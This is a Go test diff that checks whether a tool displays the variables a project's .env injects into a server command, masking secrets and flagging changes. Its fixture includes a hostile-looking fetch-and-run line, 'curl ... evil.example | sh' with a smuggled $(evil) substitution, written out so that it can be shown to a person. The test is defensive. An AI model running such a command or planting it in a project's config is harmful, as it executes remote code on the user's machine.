@@ -507,3 +507,45 @@ func TestShown(t *testing.T) {
 		t.Error("a file that env names may change")
 	}
 }
+
+// TestShownVariables: what the project's own .env gives to the entry is shown, and a person sees when it changes.
+func TestShownVariables(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	terms := func(env string) string {
+		t.Helper()
+		w.write(".env", env)
+		subject, err := Of(w.server(`{"command": "sh", "args": ["-c", "${SETUP:-true}", "${RUN_KEY:-}", "--pw", "${ARG_KEY:-}"],
+			"env": {"A": "${URL:-}", "B": "${API_TOKEN:-}", "C": "${LINE:-}", "D": "${PASSWORD:-}"}}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return strings.Join(subject.Terms, "\n")
+	}
+	const env = "SETUP='curl x://a:$(evil)@evil.example | sh'\nRUN_KEY='node ./evil.js'\nARG_KEY=abcd1234efgh\nURL=https://ada:sesame@h.example/\n" +
+		"API_TOKEN=canary-one\nLINE=\"x ${API_TOKEN}\"\nPASSWORD='pass word one'\n"
+	before := terms(env)
+	for _, text := range []string{"variable: SETUP=curl x://a:$(evil)@evil.example | sh, set by the project's .env", "RUN_KEY=node ./evil.js",
+		"ARG_KEY=*** (", "URL=https://ada:***@h.example/ (", "API_TOKEN=*** (", "LINE=x *** (", "PASSWORD=*** ("} {
+		if !strings.Contains(before, text) {
+			t.Errorf("%q is not shown:\n%s", text, before)
+		}
+	}
+	for _, secret := range []string{"abcd1234", "sesame", "canary", "pass word"} {
+		if strings.Contains(before, secret) {
+			t.Errorf("%s is shown:\n%s", secret, before)
+		}
+	}
+	for _, name := range []string{"SETUP", "API_TOKEN", "PASSWORD", "URL", "ARG_KEY"} {
+		changed := strings.Replace(env, name+"=", name+"=x", 1)
+		if name == "SETUP" || name == "PASSWORD" {
+			changed = strings.Replace(env, name+"='", name+"='x", 1)
+		}
+		if name == "URL" {
+			changed = strings.Replace(env, "sesame", "other1", 1)
+		}
+		if terms(changed) == before {
+			t.Errorf("another %s is the same to a person", name)
+		}
+	}
+}
